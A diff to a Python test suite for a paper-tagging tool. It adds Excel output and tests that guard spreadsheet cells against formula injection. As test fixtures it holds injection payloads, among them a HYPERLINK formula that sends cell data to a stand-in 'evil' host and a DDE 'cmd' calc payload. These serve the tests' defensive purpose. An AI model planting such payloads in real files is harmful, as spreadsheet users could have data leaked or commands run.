@@ -172,7 +172,7 @@ def test_tags_and_kept_columns_in_csv_and_json_lines(capsys, tmp_path):
     )
 
 
-@pytest.mark.parametrize("name", ["t.csv", "t.jsonl", "t.parquet"])
+@pytest.mark.parametrize("name", ["t.csv", "t.jsonl", "t.parquet", "t.xlsx"])
 def test_every_area_s_probability_as_a_column_in_every_format(capsys, tmp_path, name):
     """--all-probabilities (as fastText's predict-prob -k -1): a probability_AREA column per area
     of the model, in its order, after tags and before kept columns; each row's sum to 1 and hold
@@ -188,6 +188,7 @@ def test_every_area_s_probability_as_a_column_in_every_format(capsys, tmp_path, 
         "t.csv": pd.read_csv,
         "t.jsonl": lambda p: pd.read_json(p, lines=True),
         "t.parquet": pd.read_parquet,
+        "t.xlsx": pd.read_excel,
     }
     frame = read[name](tmp_path / name)
     areas = list(tagger.load_model().areas)
@@ -222,6 +223,7 @@ def test_the_output_format_follows_the_extension(capsys, tmp_path):
     assert tag(capsys, "-o", str(tmp_path / "t.csv"))[0] == 0
     assert tag(capsys, "-o", str(tmp_path / "t.jsonl"))[0] == 0
     assert tag(capsys, "-o", str(tmp_path / "t.parquet"))[0] == 0
+    assert tag(capsys, "-o", str(tmp_path / "t.xlsx"))[0] == 0
     assert tag(capsys, "-o", str(tmp_path / "forced.txt"), "--format", "jsonl")[0] == 0
     from_csv = pd.read_csv(tmp_path / "t.csv", dtype={"id": str}, keep_default_na=False)  # (empty titles)
     from_jsonl = pd.read_json(tmp_path / "t.jsonl", lines=True, dtype={"id": str})
@@ -236,6 +238,8 @@ def test_the_output_format_follows_the_extension(capsys, tmp_path):
     assert from_jsonl_tags == expected
     pd.testing.assert_frame_equal(from_csv, from_parquet, check_dtype=False)
     pd.testing.assert_frame_equal(from_csv, from_jsonl, check_dtype=False)
+    from_xlsx = pd.read_excel(tmp_path / "t.xlsx", dtype={"id": str, "title": str}, keep_default_na=False)
+    pd.testing.assert_frame_equal(from_csv, from_xlsx.drop(columns="tags"), check_dtype=False)
     assert (tmp_path / "forced.txt").read_text().startswith('{"source"')
     status, _, _ = run(
         capsys, "predict", papers, "--top-k", "3", "--keep", "doi", "-o", tmp_path / "k.parquet"
@@ -350,5 +354,85 @@ def test_an_output_name_of_no_format_we_write_is_refused_not_written_as_csv(caps
         f"tagger: {tmp_path / name}: cannot tell which format to write from the name '{name}'"
     )
     assert err.endswith(
-        "End it in .csv, .jsonl or .parquet (.csv.gz or .jsonl.gz for gzip), or give --format.\n"
+        "End it in .csv, .jsonl, .parquet or .xlsx (.csv.gz or .jsonl.gz for gzip), or give --format.\n"
     )
+
+
+@given(st.text(max_size=12))
+def test_a_cell_guarded_against_formulas_reads_back_as_it_was(cell):
+    from tagger.formulas import guarded, unguarded
+
+    written = guarded(cell)
+    assert unguarded(written) == cell
+    assert written == cell or written == "'" + cell
+    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):  # what a spreadsheet runs: never written bare
+        assert written[0] == "'" or float(cell) == float(cell)  # (a number runs nothing)
+
+
+def test_csv_for_people_never_holds_a_formula_and_reads_back_as_it_was(capsys, tmp_path):
+    """A title ``=HYPERLINK(...)``, an id ``@SUM(1)`` or a topic ``=cmd|...`` would run in the
+    spreadsheet that opens the file: written behind a quote (OWASP), read back without it."""
+    import csv as csv_module
+
+    from conftest import run
+
+    evil = '=HYPERLINK("http://evil/?x="&A1,"click")'
+    papers = tmp_path / "papers.csv"
+    with open(papers, "w", newline="") as out:
+        rows = csv_module.writer(out)
+        rows.writerow(["id", "title", "abstract", "note"])
+        rows.writerow(["@SUM(1)", evil, "We train legged robots to walk over rough ground.", "-2"])
+        rows.writerow(["-x", "+cmd|' /C calc'!A0", "A regret bound for bandits with delayed feedback.", "\tx"])
+    for keep in ([], ["--keep", "note"]):
+        status, _, _ = run(capsys, "predict", papers, *keep, "-o", tmp_path / "tags.csv")
+        assert status == 0
+        with open(tmp_path / "tags.csv", newline="") as written:
+            table = list(csv_module.DictReader(written))
+        assert [row["id"] for row in table] == ["'@SUM(1)", "'-x"]
+        assert [row["title"] for row in table] == ["'" + evil, "'+cmd|' /C calc'!A0"]
+        assert all(not cell[:1] in "=+-@\t\r" or cell == "-2" for row in table for cell in row.values())
+    assert [row["note"] for row in table] == ["-2", "'\tx"]  # (a number runs nothing: as it is)
+    # Read back by tagger (a pile, the report) as they were, with a note.
+    status, out, err = run(capsys, "predict", tmp_path / "tags.csv", "--column", "id", "--keep", "title")
+    assert status == 0 and [line.split(",")[2] for line in out.splitlines()[1:]] == ["'@SUM(1)", "'-x"]
+    assert "tags.csv: 5 cell(s) began with ' before = + - @" in err
+    from tagger.report import _chunks
+
+    [(_, frame, _, _)] = list(_chunks(str(tmp_path / "tags.csv"), None, 100))
+    assert frame["id"].tolist() == ["@SUM(1)", "-x"] and frame["title"].tolist()[0] == evil
+    # The labels a team exports: a topic that starts a formula is guarded too.
+    status, _, _ = run(capsys, "init", tmp_path / "project")
+    labels = tmp_path / "project" / "labels" / "labels.csv"
+    with open(labels, "a", newline="") as out:
+        csv_module.writer(out).writerow(["0123456789abcdef", "robotics", evil, "", "", "=1+1"])
+    status, _, _ = run(capsys, "labels", "--labels", labels.parent, "-o", tmp_path / "labels.csv")
+    with open(tmp_path / "labels.csv", newline="") as written:
+        last = list(csv_module.DictReader(written))[-1]
+    assert status == 0 and last["abstract_id"] == "0123456789abcdef" and last["topic"] == "'=1+1"
+
+
+def test_an_excel_workbook_of_tags_holds_text_never_formulas_and_refuses_what_a_cell_cannot_hold(
+    capsys, tmp_path
+):
+    """Where a spreadsheet is the destination: tags as .xlsx, each text a text cell (a title
+    ``=HYPERLINK(...)`` is shown, never run), numbers as numbers, read back by the report; a
+    cell Excel cannot hold is an error and nothing is written."""
+    from openpyxl import load_workbook
+
+    from tagger.report import _chunks
+
+    evil = '=HYPERLINK("http://evil/?x="&A1,"click")'
+    papers = tmp_path / "papers.jsonl"
+    papers.write_text(json.dumps({"id": "@SUM(1)", "title": evil, "abstract": "We train legged robots to walk."}) + "\n")
+    status, _, _ = run(capsys, "predict", papers, "--keep", "all", "-o", tmp_path / "t.xlsx")
+    header, row = load_workbook(tmp_path / "t.xlsx").active.iter_rows()
+    cells = {name.value: cell for name, cell in zip(header, row)}
+    assert status == 0 and cells["title"].value == evil and cells["title"].data_type == "s"
+    assert cells["id"].value == "@SUM(1)" and cells["input_title"].data_type == "s"
+    assert cells["confidence"].data_type == "n" and cells["needs_review"].data_type == "b"
+    [(_, frame, _, _)] = list(_chunks(str(tmp_path / "t.xlsx"), None, 100))
+    assert frame["title"].tolist() == [evil] and frame["area"].tolist() == ["robotics"]
+    papers.write_text(json.dumps({"abstract": "Robots walk. " * 3000}) + "\n")
+    status, _, err = run(capsys, "predict", papers, "--keep", "abstract", "-o", tmp_path / "long.xlsx")
+    assert status != 0 and "holds 39,000 characters, over the 32,767 an Excel cell holds" in err
+    assert "Write .csv or .parquet instead" in err and not (tmp_path / "long.xlsx").exists()
